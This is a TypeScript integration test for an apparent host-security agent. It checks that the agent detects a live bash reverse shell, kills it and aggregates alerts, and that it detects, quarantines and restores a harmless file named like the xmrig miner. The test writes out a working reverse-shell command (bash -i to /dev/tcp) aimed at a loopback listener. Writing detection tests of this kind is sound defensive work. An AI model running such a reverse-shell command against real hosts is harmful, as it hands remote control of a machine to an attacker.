/**
 * The alert pipeline end to end: `vigil server --local-agent` (the built CLI), a REAL reverse shell
 * (`bash -i >& /dev/tcp/127.0.0.1/PORT`) against a listener this test starts on loopback, the alert
 * read through pop-core, handled with HandleSecurityEvents, and the shell gone afterwards.
 * Every shell runs in its own process group, killed in afterAll whatever happened.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLocalAgentServer, type LocalAgentServer } from '../helpers/local-agent-server.js';
import { isRunning } from '../helpers/loopback-listener.js';
import { handleAlert, operationResult, type SuspEvent } from '../helpers/sas-alerts.js';
import { popClient } from '../helpers/sdk.js';

if (!existsSync('dist/cli/main.js')) throw new Error('dist/cli/main.js is missing: run `npm run build:server` first');

interface Details {
  pid: number;
  processChain: Array<{ pid: number; comm: string; cmdline: string[] }>;
  fds: Array<{ fd: number; target: string }>;
  peer: { remoteAddress: string; remotePort: number };
}

let server: LocalAgentServer | undefined;
let listener: Server;
let port = 0;
const conns: Socket[] = [];
let received = '';
const shells: ChildProcess[] = [];
let sas: ReturnType<typeof popClient>;
let minerDir = '';
let shellHome = '';

function killGroup(p: ChildProcess): void {
  if (p.pid === undefined) return;
  try {
    process.kill(-p.pid, 'SIGKILL');
  } catch {
    // already gone
  }
}

const running = isRunning;

async function until<T>(what: string, fn: () => Promise<T | undefined>, ms = 60_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 300));
  }
}

function startShell(): ChildProcess {
  // HOME without a .bashrc: the machine's root .bashrc (pyenv init) can stall an interactive shell.
  const p = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: shellHome } });
  shells.push(p);
  return p;
}

async function alertForPort(): Promise<SuspEvent | undefined> {
  const r = (await sas.request('DescribeSuspEvents', { Levels: 'serious', CurrentPage: '1', PageSize: '100' }, { method: 'POST' })) as { SuspEvents: SuspEvent[] };
  return r.SuspEvents.find((e) => (JSON.parse(e.DetailsJson) as Partial<Details>).peer?.remotePort === port);
}

const handle = (id: number, code: string, extra: Record<string, unknown> = {}): Promise<number> => handleAlert(sas, id, code, extra);
const finished = (taskId: number, id: number): Promise<string> => operationResult(sas, taskId, id);

beforeAll(async () => {
  listener = createServer((s) => {
    conns.push(s);
    s.on('data', (b) => {
      received += b.toString('utf8');
    });
    s.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const addr = listener.address();
  if (addr === null || typeof addr === 'string') throw new Error('listener has no port');
  port = addr.port;

  shellHome = mkdtempSync(join(tmpdir(), 'vigil-shell-home-'));
  server = await startLocalAgentServer();
  const key = server.createKey();
  sas = popClient(server.url, key.AccessKeyId, key.AccessKeySecret);
  await until('agent online', async () => ((await sas.request('DescribeSummaryInfo', {})).AegisClientOnlineCount === 1 ? true : undefined));
}, 90_000);

afterAll(async () => {
  for (const p of shells) killGroup(p);
  for (const c of conns) c.destroy();
  await new Promise((r) => listener.close(r));
  await server?.stop();
  if (minerDir) rmSync(minerDir, { recursive: true, force: true });
  if (shellHome) rmSync(shellHome, { recursive: true, force: true });
});

describe('reverse shell → alert → HandleSecurityEvents (vigil server --local-agent)', () => {
  it('alerts a live bash /dev/tcp shell with chain and peer, refuses block_ip on loopback, kills it, and aggregates its return', async () => {
    const shellA = startShell();
    // It is a working shell on the listener: it runs what the "attacker" sends.
    await until('shell connected', async () => (conns.length > 0 ? true : undefined), 10_000);
    conns[0]?.write('echo vigil-$((6*7))\n');
    await until('shell output', async () => (received.includes('vigil-42') ? true : undefined), 20_000);

    const alert = await until('reverse-shell alert', alertForPort);
    expect(alert.Level).toBe('serious');
    expect(alert.RuleId).toBe('revshell.stdio-socket');
    expect(alert.EventStatus).toBe(1);
    expect(alert.Count).toBe(1);
    const d = JSON.parse(alert.DetailsJson) as Details;
    expect(d.peer.remoteAddress).toBe('127.0.0.1');
    expect(d.processChain[0]?.comm).toBe('bash');
    expect(d.processChain[0]?.pid).toBe(d.pid);
    expect(d.fds.filter((f) => f.fd <= 1).every((f) => f.target.startsWith('socket:['))).toBe(true);
    expect(alert.Details.find((x) => x.NameDisplay === 'Network peer')?.Value).toContain(`127.0.0.1:${port}`);
    expect(alert.SupportOperateCode.split(',')).toEqual(expect.arrayContaining(['kill_process', 'block_ip']));
    expect(running(d.pid)).toBe(true);

    // block_ip on a loopback peer is refused by the agent, and the failure is shown on the alert.
    const blockTask = await handle(alert.Id, 'block_ip');
    expect(await finished(blockTask, alert.Id)).toBe('Failure');
    const refused = await alertForPort();
    expect(refused?.EventStatus).toBe(1);
    expect(refused?.OperateErrorCode).not.toBe('');
    expect(refused?.OperateMsg).toContain('loopback');

    const exitA = new Promise((r) => shellA.once('exit', r));
    const killTask = await handle(alert.Id, 'kill_process');
    expect(await finished(killTask, alert.Id)).toBe('Success');
    await exitA;
    expect(running(d.pid)).toBe(false);
    const handled = await alertForPort();
    expect(handled?.EventStatus).toBe(32);
    expect(handled?.OperateMsg).toContain(`killed pid ${d.pid}`);

    // The same shell comes back: same host, rule, exe and peer → the same alert, count 2, open again.
    const shellB = startShell();
    const again = await until('aggregated alert', async () => {
      const a = await alertForPort();
      return a && a.Count === 2 ? a : undefined;
    });
    expect(again.Id).toBe(alert.Id);
    expect(again.EventStatus).toBe(1);
    const dB = JSON.parse(again.DetailsJson) as Details;
    expect(dB.pid).not.toBe(d.pid);
    const exitB = new Promise((r) => shellB.once('exit', r));
    expect(await finished(await handle(again.Id, 'kill_process'), again.Id)).toBe('Success');
    await exitB;
    expect(running(dB.pid)).toBe(false);
  }, 120_000);

  it('detects a process named like a miner, kills and quarantines it, lists the file and restores it', async () => {
    // A copy of sleep(1) named xmrig: a known miner name, harmless to run.
    minerDir = mkdtempSync(join(tmpdir(), 'vigil-miner-'));
    const minerPath = join(minerDir, 'xmrig');
    copyFileSync('/usr/bin/sleep', minerPath);
    const mode = statSync(minerPath).mode & 0o777;
    const miner = spawn(minerPath, ['600'], { detached: true, stdio: 'ignore' });
    shells.push(miner);
    const pid = miner.pid as number;
    const find = async () => {
      const r = (await sas.request('DescribeSuspEvents', { CurrentPage: '1', PageSize: '100' }, { method: 'POST' })) as { SuspEvents: SuspEvent[] };
      return r.SuspEvents.find((e) => e.RuleId.startsWith('mining.') && (JSON.parse(e.DetailsJson) as { pid?: number }).pid === pid);
    };
    const alert = await until('miner alert', find);
    expect(alert.RuleId).toBe('mining.process-name');
    expect(alert.SupportOperateCode.split(',')).toContain('kill_and_quara');

    const exited = new Promise((r) => miner.once('exit', r));
    expect(await finished(await handle(alert.Id, 'kill_and_quara'), alert.Id)).toBe('Success');
    await exited;
    expect(running(pid)).toBe(false);
    expect(existsSync(minerPath)).toBe(false);
    expect((await find())?.EventStatus).toBe(32);

    const q = (await sas.request('DescribeSuspEventQuaraFiles', { CurrentPage: '1', PageSize: '20' }, { method: 'POST' })) as {
      QuaraFiles: Array<{ Id: number; Path: string; Status: string; Sha256: string }>;
    };
    const file = q.QuaraFiles.find((f) => f.Path === minerPath);
    expect(file?.Status).toBe('quaraDone');
    expect(file?.Sha256).toMatch(/^[0-9a-f]{64}$/);
    await sas.request('RollbackSuspEventQuaraFile', { QuaraFileId: file?.Id }, { method: 'POST' });
    expect(existsSync(minerPath)).toBe(true);
    expect(statSync(minerPath).mode & 0o777).toBe(mode);
    expect(readFileSync(minerPath).equals(readFileSync('/usr/bin/sleep'))).toBe(true);
    const after = (await sas.request('DescribeSuspEventQuaraFiles', {}, { method: 'POST' })) as { QuaraFiles: Array<{ Id: number; Status: string }> };
    expect(after.QuaraFiles.find((f) => f.Id === file?.Id)?.Status).toBe('rollbackDone');
  }, 120_000);
});
